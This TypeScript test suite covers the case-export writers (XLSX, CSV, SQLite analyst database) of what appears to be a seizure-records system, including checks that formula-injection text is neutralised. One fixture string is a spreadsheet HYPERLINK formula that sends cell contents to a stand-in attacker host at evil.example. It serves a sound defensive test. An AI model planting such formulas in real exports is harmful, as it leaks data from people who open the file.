/**
 * The case export writers and the analyst database on an in-memory store, read back by
 * independent readers: openpyxl for workbooks, csv-parse for CSV, node:sqlite for the database
 * and Python's zipfile for the zip.
 */
import { expect } from 'chai';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { PassThrough, Writable } from 'node:stream';
import { EXPORT_COLUMNS, EXPORT_FIELD_HEADERS, exportHeader } from '../../../protocol/export-columns.ts';
import { matchHeader } from '../../../protocol/import-columns.ts';
import type { Case, CaseInput } from '../../../protocol/records.ts';
import { LANGUAGES, vocabularies } from '../../../protocol/vocabulary/index.ts';
import {
  ANALYST_DB_FILE,
  buildAnalystDatabase,
  buildAnalystExport,
  caseRowBuilder,
  casePages,
  exportCases,
  exportToFile,
  filterCodes,
  neutraliseText,
  parseExportQuery,
  writeCases,
} from '../../../node/export/index.ts';
import { seedStore } from '../../../node/seed/index.ts';
import { MemoryKv, RecordStore } from '../../../node/store/index.ts';
import { runCommandWith, type NodeServices } from '../../../node/control/commands.ts';
import type { AuditEntryInput } from '../../../node/audit/index.ts';
import { parseCsv, readWorkbook, zipEntries } from '../../helpers/export-reader.ts';
import { makeTempDir } from '../../helpers/node.ts';

const ACTOR = { username: 'test:export' };
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Click here")';

/** A case that carries what an export must neutralise and keep exact. */
const trickyCase: CaseInput = {
  ref: HYPERLINK,
  kind: 'seizure',
  form: 'full',
  status: 'validated',
  seizureDate: '2026-03-14',
  direction: 'import',
  location: { type: 'airport', code: 'NBO', name: '@SUM(A1:A9)', lat: -1.319, lon: 36.927 },
  detection: { method: 'scanner' },
  conveyance: { mode: 'air-passenger', carrier: '+254 Air', flightOrVoyage: 'KQ 101' },
  concealment: { method: 'baggage', description: '-2+3 false bottom' },
  route: { origin: 'BR', transit: ['ET', 'AE'], destination: 'KE' },
  offenceTypes: ['smuggling'],
  items: [
    { itrArea: 'drugs', commodity: 'cocaine', quantity: 12.5, unit: 'kg', valueUsd: 400000 },
    { itrArea: 'drugs', commodity: 'heroin', quantity: 1, unit: 'kg' },
  ],
  narrative: '@the airport, a passenger from São Paulo',
};

async function memoryStore(cases: number): Promise<{ store: RecordStore; tricky: Case }> {
  const store = await RecordStore.open({ kv: new MemoryKv(), country: 'KE' });
  await seedStore(store, { cases, seed: 5, today: '2026-11-20' });
  const tricky = await store.createCase(trickyCase, ACTOR);
  return { store, tricky };
}

async function allCases(store: RecordStore, filters = {}): Promise<Case[]> {
  const cases: Case[] = [];
  for await (const page of casePages(store, filters)) cases.push(...page);
  return cases;
}

const header = (key: string, lang: (typeof LANGUAGES)[number] = 'en') =>
  exportHeader(
    EXPORT_COLUMNS.find((column) => column.key === key)!,
    lang,
  );

describe('case export', function () {
  this.timeout(60_000);
  let store: RecordStore;
  let tricky: Case;
  let temp: Awaited<ReturnType<typeof makeTempDir>>;

  before(async function () {
    ({ store, tricky } = await memoryStore(230));
    temp = await makeTempDir('cen-export-');
  });
  after(async function () {
    await store.close();
    await temp.remove();
  });

  describe('columns', function () {
    it('gives every column a value, a unique key and a header in the six languages', function () {
      const keys = EXPORT_COLUMNS.map((column) => column.key);
      expect(new Set(keys).size).to.equal(keys.length);
      for (const lang of LANGUAGES) {
        const row = caseRowBuilder(lang)(tricky);
        expect(row).to.have.length(EXPORT_COLUMNS.length);
        const headers = EXPORT_COLUMNS.map((column) => exportHeader(column, lang));
        expect(new Set(headers).size, `${lang} headers are distinct`).to.equal(headers.length);
      }
      for (const labels of Object.values(EXPORT_FIELD_HEADERS))
        for (const lang of LANGUAGES) expect(labels[lang], lang).to.be.a('string').and.not.equal('');
    });

    it('writes coded fields as code and label, lists joined, the first items numbered', function () {
      const row = caseRowBuilder('fr')(tricky);
      const cell = (key: string) => row[EXPORT_COLUMNS.findIndex((column) => column.key === key)];
      expect(cell('item1.commodity')).to.equal('cocaine');
      expect(cell('item1.commodity.label')).to.equal(vocabularies.commodity.label('cocaine', 'fr'));
      expect(cell('item2.commodity')).to.equal('heroin');
      expect(cell('item3.commodity')).to.equal(undefined);
      expect(cell('routeTransit')).to.equal('ET; AE');
      expect(cell('routeTransit.label')).to.equal(
        `${vocabularies.country.label('ET', 'fr')}; ${vocabularies.country.label('AE', 'fr')}`,
      );
      expect(cell('itemCount')).to.equal(2);
      expect(cell('totalValueUsd')).to.equal(400000);
      expect(cell('lat')).to.equal(-1.319);
      expect(header('item2.unit')).to.equal('Item 2 unit');
      expect(header('item2.unit.label')).to.equal('Item 2 unit (label)');
      expect(header('kind.label', 'fr')).to.equal('Nature du dossier (libellé)');
    });

    it('names columns as bulk upload does, so that an exported workbook can be uploaded again', function () {
      for (const lang of LANGUAGES) {
        for (const column of EXPORT_COLUMNS) {
          const match = matchHeader(exportHeader(column, lang));
          if (column.importPath === undefined) {
            expect(match, `${lang} ${column.key} is not read by bulk upload`).to.equal(undefined);
          } else {
            expect(match?.column.path, `${lang} ${column.key}`).to.equal(column.importPath);
            expect(match?.n, `${lang} ${column.key}`).to.equal(column.item ?? 1);
          }
        }
      }
    });
  });

  it('neutralises text that a spreadsheet would run as a formula, and nothing else', function () {
    for (const text of ['=1+1', '+1', '-1', '@A1', '\tx', '\rx', '＝1+1', HYPERLINK])
      expect(neutraliseText(text)).to.equal(`'${text}`);
    for (const text of ['KE-2026-1', "'=already", '', 'a=b', ' =1'])
      expect(neutraliseText(text)).to.equal(text);
  });

  it('refuses cursor and limit, and unknown codes, and names the parameter', function () {
    expect(parseExportQuery({ itrArea: 'drugs', lang: 'ar' })).to.deep.equal({
      filters: { itrArea: 'drugs' },
      lang: 'ar',
    });
    expect(parseExportQuery({}).lang).to.equal('en');
    const issuesOf = (query: Record<string, unknown>) => {
      try {
        parseExportQuery(query);
      } catch (err) {
        return (err as { issues: { path: string }[] }).issues.map((issue) => issue.path);
      }
      return [];
    };
    expect(issuesOf({ cursor: 'x', limit: '5' })).to.have.members(['cursor', 'limit']);
    expect(issuesOf({ commodity: 'unobtainium' })).to.deep.equal(['commodity']);
    expect(issuesOf({ lang: 'de' })).to.deep.equal(['lang']);
    expect(filterCodes({ q: 'a suitcase of someone', itrArea: 'drugs', from: '2026-01-01' })).to.deep.equal([
      'q',
      'from=2026-01-01',
      'itrArea=drugs',
    ]);
  });

  it('writes an XLSX that openpyxl reads with the rows and values of the search, across sheets', async function () {
    const file = join(temp.path, 'cases.xlsx');
    const result = await exportToFile(file, (out) =>
      writeCases(casePages(store, {}), out, { format: 'xlsx', lang: 'en', sheetRowLimit: 100 }),
    );
    const expected = await allCases(store);
    expect(result.rows).to.equal(expected.length).and.equal(231);
    // 99 cases under each header row: 231 cases fill two sheets and start a third.
    expect(result.sheets).to.equal(3);

    const book = await readWorkbook(file);
    expect(book.sheets.map((sheet) => sheet.name)).to.deep.equal(['Cases', 'Cases 2', 'Cases 3']);
    expect(book.sheets.map((sheet) => sheet.rows.length)).to.deep.equal([100, 100, 34]);
    const headers = EXPORT_COLUMNS.map((column) => exportHeader(column, 'en'));
    for (const sheet of book.sheets) {
      expect(sheet.rows[0]).to.deep.equal(headers);
      expect(sheet.rightToLeft).to.equal(false);
    }
    const rows = book.sheets.flatMap((sheet) => sheet.rows.slice(1));
    const at = (key: string) => headers.indexOf(header(key));
    expect(rows.map((row) => row[at('id')])).to.deep.equal(expected.map((c) => c.id));
    for (const [i, c] of expected.entries()) {
      const row = rows[i]!;
      expect(row[at('seizureDate')], c.id).to.equal(`${c.seizureDate}T00:00:00`);
      expect(row[at('status')]).to.equal(c.status);
      expect(row[at('reportingCountry.label')]).to.equal(
        vocabularies.country.label(c.reportingCountry, 'en'),
      );
      expect(row[at('item1.commodity')]).to.equal(c.items[0]!.commodity);
      expect(row[at('item1.quantity')]).to.equal(c.items[0]!.quantity ?? null);
      expect(row[at('conveyanceMode')]).to.equal(c.conveyance?.mode ?? null);
      expect(row[at('itemCount')]).to.equal(c.items.length);
      expect(row[at('version')]).to.equal(c.version);
      expect(Date.parse(`${row[at('createdAt')] as string}Z`)).to.be.closeTo(Date.parse(c.createdAt), 1);
    }
    const trickyRow = rows.find((row) => row[at('id')] === tricky.id)!;
    expect(trickyRow[at('ref')]).to.equal(`'${HYPERLINK}`);
    expect(trickyRow[at('locationName')]).to.equal("'@SUM(A1:A9)");
    expect(trickyRow[at('carrier')]).to.equal("'+254 Air");
    expect(trickyRow[at('concealmentDescription')]).to.equal("'-2+3 false bottom");
    expect(trickyRow[at('narrative')]).to.equal("'@the airport, a passenger from São Paulo");
    // Numbers stay numbers, negative ones included.
    expect(trickyRow[at('lat')]).to.equal(-1.319);
    expect(trickyRow[at('item1.valueUsd')]).to.equal(400000);
  });

  it('gives Arabic users right-to-left sheets with Arabic headers and labels', async function () {
    const file = join(temp.path, 'cases-ar.xlsx');
    await exportToFile(file, (out) =>
      writeCases(casePages(store, { itrArea: 'drugs' }), out, { format: 'xlsx', lang: 'ar' }),
    );
    const book = await readWorkbook(file);
    expect(book.sheets).to.have.length(1);
    const sheet = book.sheets[0]!;
    expect(sheet.name).to.equal('القضايا');
    expect(sheet.rightToLeft).to.equal(true);
    expect(sheet.rows[0]![0]).to.equal('معرّف القضية');
    expect(sheet.rows[0]).to.include(header('item1.commodity', 'ar'));
    const labelAt = sheet.rows[0]!.indexOf(header('item1.itrArea.label', 'ar'));
    const expected = await allCases(store, { itrArea: 'drugs' });
    expect(sheet.rows.length - 1)
      .to.equal(expected.length)
      .and.be.above(10);
    for (const row of sheet.rows.slice(1))
      expect(row[labelAt]).to.equal(vocabularies.itrArea.label('drugs', 'ar'));
  });

  it('writes a CSV in UTF-8 with a BOM that round-trips through csv-parse', async function () {
    const file = join(temp.path, 'cases.csv');
    const result = await exportToFile(file, (out) =>
      writeCases(casePages(store, { status: 'validated' }), out, { format: 'csv', lang: 'ru' }),
    );
    const bytes = await readFile(file);
    expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    const records = parseCsv(bytes.toString('utf8'));
    const expected = await allCases(store, { status: 'validated' });
    expect(result.rows).to.equal(expected.length);
    expect(records).to.have.length(expected.length + 1);
    expect(records[0]).to.deep.equal(EXPORT_COLUMNS.map((column) => exportHeader(column, 'ru')));
    const at = (key: string) => records[0]!.indexOf(header(key, 'ru'));
    expect(records.slice(1).map((row) => row[at('id')])).to.deep.equal(expected.map((c) => c.id));
    const row = records.find((r) => r[at('id')] === tricky.id)!;
    expect(row[at('ref')]).to.equal(`'${HYPERLINK}`);
    expect(row[at('narrative')]).to.equal("'@the airport, a passenger from São Paulo");
    expect(row[at('seizureDate')]).to.equal('2026-03-14');
    expect(row[at('lat')]).to.equal('-1.319');
    expect(row[at('item1.commodity.label')]).to.equal(vocabularies.commodity.label('cocaine', 'ru'));
    expect(row[at('createdAt')]).to.equal(tricky.createdAt);
  });

  it('records every export in the audit log, with filters as codes and never the query text', async function () {
    const entries: AuditEntryInput[] = [];
    const audit = { append: (entry: AuditEntryInput) => Promise.resolve(void entries.push(entry)) };
    const sink = new PassThrough();
    sink.resume();
    const { filters, lang } = parseExportQuery({ q: 'cocaine', itrArea: 'drugs', lang: 'es' });
    const result = await exportCases(
      { store, audit },
      { actor: 'ana', ip: '127.0.0.1' },
      { format: 'csv', filters, lang },
      sink,
    );
    expect(entries).to.deep.equal([
      {
        action: 'export',
        actor: 'ana',
        outcome: 'ok',
        details: { format: 'csv', filters: ['q', 'itrArea=drugs'], lang: 'es', count: result.rows },
        ip: '127.0.0.1',
      },
    ]);
    expect(JSON.stringify(entries)).to.not.include('cocaine');
  });

  it('waits for a slow reader and stops when the reader goes away', async function () {
    // A reader that takes one chunk and nothing more: the export must wait, not run to its end
    // buffering everything, and stop (recorded as failed) when the reader is gone.
    const stuck = new Writable({ highWaterMark: 16 * 1024, write: () => undefined });
    const entries: AuditEntryInput[] = [];
    const audit = { append: (entry: AuditEntryInput) => Promise.resolve(void entries.push(entry)) };
    let settled = false;
    let written = 0;
    const exporting = exportCases(
      { store, audit },
      { actor: 'ana' },
      { format: 'csv', filters: {}, lang: 'en', onProgress: (done) => (written = done) },
      stuck,
    ).finally(() => (settled = true));
    while (!stuck.writableNeedDrain) await new Promise((resolve) => setImmediate(resolve));
    // Time enough to write the 231 rows many times over, had it not waited.
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(settled, 'the export waits for the reader').to.equal(false);
    expect(written, 'rows written while the reader takes nothing').to.be.below(231);
    stuck.destroy();
    const failure = await exporting.then(
      () => undefined,
      (err: unknown) => err as Error,
    );
    expect(failure?.name).to.equal('ExportAbortedError');
    expect(entries.map((entry) => entry.outcome)).to.deep.equal(['failed']);
  });

  it('runs as the `export` command of the control socket, reporting progress to the last row', async function () {
    const entries: AuditEntryInput[] = [];
    const audit = { append: (entry: AuditEntryInput) => Promise.resolve(void entries.push(entry)) };
    const services = { store, audit } as unknown as NodeServices;
    const progress: [number, number][] = [];
    const out = join(temp.path, 'command.csv');
    const result = await runCommandWith(
      services,
      'export',
      { format: 'csv', out, query: { itrArea: 'drugs', lang: 'fr' }, by: 'cli:ana' },
      { progress: (done, total) => progress.push([done, total]) },
    );
    const expected = await allCases(store, { itrArea: 'drugs' });
    expect(result).to.deep.equal({ format: 'csv', out, cases: expected.length });
    expect(progress[0]).to.deep.equal([0, 231]);
    expect(progress.at(-1)).to.deep.equal([expected.length, expected.length]);
    expect(parseCsv(await readFile(out, 'utf8'))).to.have.length(expected.length + 1);
    expect(entries[0]).to.deep.include({ actor: 'cli:ana', outcome: 'ok' });
    const refused = await runCommandWith(
      services,
      'export',
      { out: 'relative.xlsx' },
      { progress: () => undefined },
    ).then(
      () => undefined,
      (err: unknown) => err as { name: string; issues: { path: string; rule: string }[] },
    );
    expect(refused?.issues).to.deep.equal([
      { path: 'out', rule: 'absolute', message: 'out must be an absolute path' },
    ]);
  });

  describe('analyst database', function () {
    it('holds the cases, items, route legs and vocabularies, with views that answer', async function () {
      const dir = await makeTempDir('cen-analyst-');
      try {
        const summary = await buildAnalystDatabase(store, dir.path, {
          filters: {},
          lang: 'fr',
          nominal: false,
        });
        const expected = await allCases(store);
        expect(summary.cases).to.equal(expected.length);
        expect(summary.files).to.include.members([
          'README.md',
          ANALYST_DB_FILE,
          'cases.xlsx',
          'csv/cases.csv',
          'csv/items.csv',
        ]);
        expect(summary.files).to.not.include('csv/persons.csv');
        const db = new DatabaseSync(join(dir.path, ANALYST_DB_FILE), { readOnly: true });
        try {
          const count = (sql: string) => (db.prepare(sql).get() as { n: number }).n;
          expect(count('SELECT COUNT(*) AS n FROM cases')).to.equal(expected.length);
          expect(count('SELECT COUNT(*) AS n FROM items')).to.equal(
            expected.reduce((sum, c) => sum + c.items.length, 0),
          );
          expect(count("SELECT COUNT(*) AS n FROM sqlite_master WHERE name = 'persons'")).to.equal(0);
          const legs = db
            .prepare('SELECT leg, country FROM route_legs WHERE case_id = ? ORDER BY leg_no')
            .all(tricky.id);
          expect(legs).to.deep.equal([
            { leg: 'origin', country: 'BR' },
            { leg: 'transit', country: 'ET' },
            { leg: 'transit', country: 'AE' },
            { leg: 'destination', country: 'KE' },
          ]);
          // The view agrees with the cases themselves.
          const month = db
            .prepare(
              "SELECT cases, quantity, commodity_label FROM seizures_by_month_commodity WHERE month = '2026-03' AND commodity = 'cocaine' AND unit = 'kg'",
            )
            .get() as { cases: number; quantity: number; commodity_label: string };
          const march = expected.filter((c) => c.seizureDate.startsWith('2026-03'));
          const cocaine = march.flatMap((c) =>
            c.items.filter((i) => i.commodity === 'cocaine' && i.unit === 'kg'),
          );
          expect(month.cases).to.equal(
            march.filter((c) => c.items.some((i) => i.commodity === 'cocaine' && i.unit === 'kg')).length,
          );
          expect(month.quantity).to.be.closeTo(
            cocaine.reduce((sum, i) => sum + (i.quantity ?? 0), 0),
            1e-6,
          );
          expect(month.commodity_label).to.equal(vocabularies.commodity.label('cocaine', 'fr'));
          for (const view of [
            'seizures_by_year_area',
            'cases_by_route_country',
            'cases_by_conveyance_detection',
            'case_list',
          ])
            expect(count(`SELECT COUNT(*) AS n FROM ${view}`), view).to.be.above(0);
          expect(
            count("SELECT COUNT(*) AS n FROM vocabularies WHERE vocabulary = 'commodity' AND label_ar <> ''"),
          ).to.equal(vocabularies.commodity.codes.length);
        } finally {
          db.close();
        }
        const readme = await readFile(join(dir.path, 'README.md'), 'utf8');
        for (const name of [
          'cases',
          'items',
          'offenders',
          'route_legs',
          'vocabularies',
          'seizures_by_month_commodity',
        ])
          expect(readme).to.include(`\`${name}\``);
        const csv = parseCsv(await readFile(join(dir.path, 'csv/cases.csv'), 'utf8'));
        expect(csv).to.have.length(expected.length + 1);
        const refAt = csv[0]!.indexOf('ref');
        expect(csv.find((row) => row[0] === tricky.id)![refAt]).to.equal(`'${HYPERLINK}`);
        const book = await readWorkbook(join(dir.path, 'cases.xlsx'));
        expect(book.sheets[0]!.rows.length - 1).to.equal(expected.length);
      } finally {
        await dir.remove();
      }
    });

    it('holds persons and businesses only when asked for nominal data, and zips and removes itself', async function () {
      const entries: AuditEntryInput[] = [];
      const audit = { append: (entry: AuditEntryInput) => Promise.resolve(void entries.push(entry)) };
      const built = await buildAnalystExport(
        { store, audit },
        { actor: 'ana' },
        { filters: { itrArea: 'drugs' }, lang: 'en', nominal: true, tempDir: temp.path },
      );
      const scratch = (await readdir(temp.path)).filter((name) => name.startsWith('cen-analyst-db-'));
      expect(scratch).to.have.length(1);
      const dbFile = join(temp.path, scratch[0]!, ANALYST_DB_FILE);
      const db = new DatabaseSync(dbFile, { readOnly: true });
      const persons = (db.prepare('SELECT COUNT(*) AS n FROM persons').get() as { n: number }).n;
      const links = (db.prepare('SELECT COUNT(*) AS n FROM case_persons').get() as { n: number }).n;
      const dangling = (
        db
          .prepare('SELECT COUNT(*) AS n FROM case_persons WHERE person_id NOT IN (SELECT id FROM persons)')
          .get() as { n: number }
      ).n;
      db.close();
      expect(persons).to.equal(built.summary.persons).and.be.above(0);
      expect(links).to.be.at.least(persons);
      expect(dangling).to.equal(0);

      const zipFile = join(temp.path, 'analyst.zip');
      await exportToFile(zipFile, (out) => built.sendTo(out));
      const names = await zipEntries(zipFile);
      const folder = names[0]!.split('/')[0]!;
      expect(folder).to.match(/^cen-analyst-db-\d{4}-\d{2}-\d{2}$/);
      expect(names).to.include.members(
        ['README.md', ANALYST_DB_FILE, 'cases.xlsx', 'csv/persons.csv', 'csv/case_persons.csv'].map(
          (name) => `${folder}/${name}`,
        ),
      );
      const left = await readdir(temp.path);
      expect(left.filter((name) => name.startsWith('cen-analyst-db-'))).to.deep.equal([]);
      expect(entries).to.have.length(1);
      expect(entries[0]!.details).to.deep.include({
        format: 'analyst-db',
        filters: ['itrArea=drugs'],
        count: built.summary.cases,
        nominal: true,
        persons: built.summary.persons,
      });
    });
  });
});
